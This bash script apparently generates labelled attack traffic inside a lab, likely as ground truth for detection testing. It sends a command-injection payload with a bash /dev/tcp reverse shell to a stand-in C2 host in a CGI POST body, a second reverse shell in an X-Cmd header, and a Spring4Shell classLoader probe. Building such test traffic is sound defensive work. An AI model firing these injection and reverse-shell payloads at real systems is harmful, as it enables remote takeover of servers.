#!/usr/bin/env bash
# Exploitation: command-injection attempts against the legacy app's CGI carrying a
# reverse-shell one-liner (bash /dev/tcp) in a form body and in a header, and the
# Spring4Shell probe in a query string.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy)
lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
gt_begin rce-payloads exploitation curl pod:toolbox pod:legacy "bash -i >& /dev/tcp/c2.evil.lab.test/4444 in a POST body and an X-Cmd header to /cgi-bin/; the Spring4Shell probe in a query string"
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -d 'host=127.0.0.1;bash -i >& /dev/tcp/c2.evil.lab.test/4444 0>&1' "http://$T:8080/cgi-bin/ping.cgi" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'X-Cmd: sh -i >& /dev/tcp/203.0.113.66/4444 0>&1' "http://$T:8080/cgi-bin/status.cgi" || true
# The usual Spring4Shell check: class.module.classLoader in the query string of a GET.
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$T:8080/?class.module.classLoader.URLs%5B0%5D=0" || true
gt_end '{"dport":8080}'
